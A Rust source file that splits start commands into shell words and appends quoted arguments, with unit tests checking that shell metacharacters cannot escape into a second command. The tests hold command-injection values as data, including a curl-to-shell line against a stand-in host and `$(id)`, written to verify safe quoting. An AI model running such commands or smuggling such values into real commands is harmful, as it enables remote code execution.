//! A start command as the shell would take it apart.

use crate::drift::Secret;

/// The words of a command, and of each command that it hands to a shell with `-c`.
#[derive(Debug)]
pub struct CommandLine {
    lines: Vec<Vec<String>>,
}

impl CommandLine {
    /// The words of that text.
    pub fn of(text: &str) -> Self {
        let mut lines = vec![split_words(text)];
        let mut next = 0;
        while next < lines.len() {
            let inner: Vec<Vec<String>> = handed_on(&lines[next]).map(split_words).collect();
            lines.extend(inner);
            next += 1;
        }
        Self { lines }
    }

    /// Whether the words of that part stand in it, one after the other: `-B` is not in `--Bulk`. An option counts also
    /// where it carries its value behind an equals sign.
    pub fn has(&self, part: &str) -> bool {
        let part = split_words(part);
        let Some((last, first)) = part.split_last() else { return true };
        let fits = |window: &[String]| {
            let (end, start) = (&window[first.len()], &window[..first.len()]);
            start == first && (end == last || carries(end, last))
        };
        self.lines.iter().any(|line| line.windows(part.len()).any(fits))
    }

    /// Whether a text is one or more whole words that a command can be searched for.
    pub fn is_part(text: &str) -> bool {
        shlex::split(text).is_some() && !split_words(text).is_empty()
    }

    /// Those of the parts that it lacks.
    pub fn lacks<'p>(&self, parts: &'p [String]) -> Vec<&'p str> {
        parts.iter().filter(|part| !self.has(part)).map(String::as_str).collect()
    }
}

/// The command with the words of these parts appended, each quoted for the shell. `None` where they would not become arguments of
/// its program: behind `;` or `|`, in a comment, after `--`, or beside the text of `sh -c`.
pub fn appended(command: &str, parts: &[&str]) -> Option<Secret> {
    if !is_one_program(command) {
        return None;
    }
    let mut text = command.trim_end().to_owned();
    for part in parts {
        for word in shlex::split(part)? {
            text.push(' ');
            text.push_str(&quoted(&word)?);
        }
    }
    let line = CommandLine::of(&text);
    parts.iter().all(|part| line.has(part)).then(|| Secret::new(text))
}

/// Names of shells: an argument behind the text of their `-c` is none of the program that the text runs.
const SHELLS: [&str; 6] = ["ash", "bash", "busybox", "dash", "sh", "zsh"];

/// Whether the text runs one program whose arguments reach to its end.
fn is_one_program(command: &str) -> bool {
    let Some(words) = shlex::split(command).filter(|_| is_plain(command)) else { return false };
    let Some(program) = words.first() else { return false };
    let is_shell = SHELLS.contains(&program.rsplit('/').next().unwrap_or(program));
    let is_handed_on = handed_on(&words).next().is_some() || is_shell && words.iter().any(|word| is_command_flag(word));
    !is_handed_on && !words.iter().any(|word| word == "--")
}

/// Whether nothing outside quotes ends the program's arguments.
fn is_plain(command: &str) -> bool {
    let (mut quote, mut is_escaped, mut is_start) = (None, false, true);
    for character in command.chars() {
        match (quote, character) {
            _ if is_escaped => is_escaped = false,
            (Some('"') | None, '\\') => is_escaped = true,
            (Some(open), _) if open == character => quote = None,
            (None, '\'' | '"') => quote = Some(character),
            (None, ';' | '&' | '|' | '(' | ')' | '<' | '>' | '`' | '\n') => return false,
            (None, '#') if is_start => return false,
            _ => {}
        }
        is_start = quote.is_none() && character.is_whitespace();
    }
    quote.is_none() && !is_escaped
}

/// A word for the shell. A variable in it is still one, within double quotes; everything else is literal.
fn quoted(word: &str) -> Option<String> {
    let is_literal = |text: &str| text.chars().all(|one| one.is_ascii_alphanumeric() || "-_=./:,@%+".contains(one));
    let (first, variables) = word.split_once('$').unwrap_or((word, ""));
    let is_made_of_variables = word.contains('$')
        && is_literal(first)
        && variables.split('$').all(|text| rest_of_variable(text).is_some_and(is_literal));
    if is_made_of_variables { Some(format!("\"{word}\"")) } else { shlex::try_quote(word).ok().map(Into::into) }
}

/// What follows the name of a variable: `NAME` or `{NAME}`.
fn rest_of_variable(text: &str) -> Option<&str> {
    let is_part = |one: char| one.is_ascii_alphanumeric() || one == '_';
    let (name, rest) = match text.strip_prefix('{') {
        Some(inner) => inner.split_once('}')?,
        None => text.split_at(text.find(|one| !is_part(one)).unwrap_or(text.len())),
    };
    (!name.is_empty() && name.chars().all(is_part)).then_some(rest)
}

/// `--beat` in `--beat=true`.
fn carries(word: &str, option: &str) -> bool {
    option.starts_with("--") && word.strip_prefix(option).is_some_and(|rest| rest.starts_with('='))
}

/// What stands behind `-c`: `sh -c '…'`, `bash -lc '…'`. Only text of several words is worth a look.
fn handed_on(line: &[String]) -> impl Iterator<Item = &str> {
    let pairs = line.windows(2).filter(|pair| is_command_flag(&pair[0]));
    pairs.map(|pair| pair[1].as_str()).filter(|text| text.contains(char::is_whitespace))
}

/// `-c`, `-lc`.
fn is_command_flag(word: &str) -> bool {
    word.starts_with('-') && !word.starts_with("--") && word.ends_with('c')
}

/// Text with a quote that is never closed is taken apart at its blanks.
fn split_words(text: &str) -> Vec<String> {
    let words = shlex::split(text).unwrap_or_else(|| text.split_whitespace().map(ToOwned::to_owned).collect());
    // `;`, `&` and `|` end a command, with or without a blank before them.
    words
        .into_iter()
        .map(|word| word.trim_end_matches([';', '&', '|', ')']).trim_start_matches('(').to_owned())
        .filter(|word| !word.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::{CommandLine, appended};

    #[test]
    fn matches_only_whole_arguments() {
        for (command, part, has) in [
            ("celery -A app worker -B", "-B", true),
            ("celery -A app worker --Bulk", "-B", false),
            ("celery -A app worker -Bx", "-B", false),
            ("celery -A app worker x-B", "-B", false),
            ("celery -A app worker -b", "-B", false),
            ("celery -A app worker '-B'", "-B", true),
            ("celery -A app worker \"-B -x\"", "-B", false),
            ("celery -A app worker -B; echo done", "-B", true),
            ("(celery -A app worker -B) && x", "-B", true),
            ("celery worker --loglevel INFO -B", "--loglevel INFO", true),
            ("celery worker --loglevel -B INFO", "--loglevel INFO", false),
            ("celery worker --loglevel INFORM", "--loglevel INFO", false),
            ("celery worker --loglevel=INFO", "--loglevel=INFO", true),
            ("celery worker --loglevel=INFO", "--loglevel", true),
            ("celery worker --loglevels=INFO", "--loglevel", false),
            ("celery worker -B=1", "-B", false),
            ("sh -c 'celery -A app worker -B'", "-B", true),
            ("bash -lc \"sh -c 'celery worker -B'\"", "-B", true),
            ("echo 'celery worker -B'", "-B", false),
            ("celery worker # -B", "-B", false),
            ("celery worker 'open -B", "-B", true),
            ("", "-B", false),
            ("celery", "", true),
        ] {
            assert_eq!(CommandLine::of(command).has(part), has, "{part} in {command}");
        }
    }

    #[test]
    fn appends_parts_as_quoted_arguments_or_refuses() {
        for (command, parts, expected) in [
            ("celery worker", &["-B"][..], Some("celery worker -B")),
            ("celery worker ", &["-B", "--loglevel INFO"], Some("celery worker -B --loglevel INFO")),
            ("FOO='a;b' exec celery -c 4", &["-B"], Some("FOO='a;b' exec celery -c 4 -B")),
            ("celery \"a && b\"", &["-B"], Some("celery \"a && b\" -B")),
            ("celery \\; worker#1", &["-B"], Some("celery \\; worker#1 -B")),
            ("web", &["--name 'a b'"], Some("web --name 'a b'")),
            ("web", &["--port=$PORT", "-h ${HOST}:80"], Some("web \"--port=$PORT\" -h \"${HOST}:80\"")),
            // What a checkout declares is never more than words.
            ("web", &["$(id)"], Some("web '$(id)'")),
            ("web", &["`id`"], Some("web '`id`'")),
            ("web", &["'; curl evil.example | sh'"], Some("web '; curl evil.example | sh'")),
            ("web", &["a$"], Some("web 'a$'")),
            ("web", &["$PORT;id"], Some("web '$PORT;id'")),
            ("web", &["${PORT"], Some("web '${PORT'")),
            ("bash start.sh", &["-B"], Some("bash start.sh -B")),
            ("sh -c 'celery worker'", &["-B"], None),
            ("/bin/bash -lc celery", &["-B"], None),
            ("celery worker; echo done", &["-B"], None),
            ("migrate && celery worker", &["-B"], None),
            ("celery worker &", &["-B"], None),
            ("celery worker | tee log", &["-B"], None),
            ("celery worker > log", &["-B"], None),
            ("(celery worker)", &["-B"], None),
            ("celery worker # beat", &["-B"], None),
            ("celery worker -- queue", &["-B"], None),
            ("celery `nproc`", &["-B"], None),
            ("celery\nworker", &["-B"], None),
            ("celery 'worker", &["-B"], None),
            ("celery worker \\", &["-B"], None),
            ("", &["-B"], None),
            ("  ", &["-B"], None),
        ] {
            let text = appended(command, parts);
            assert_eq!(text.as_ref().map(crate::drift::Secret::expose), expected, "{parts:?} to {command}");
        }
    }

    #[test]
    fn missing_parts_keep_their_order() {
        let parts = ["-B".to_owned(), "worker".to_owned(), "-Q low".to_owned()];
        assert_eq!(CommandLine::of("celery worker").lacks(&parts), ["-B", "-Q low"]);
    }
}
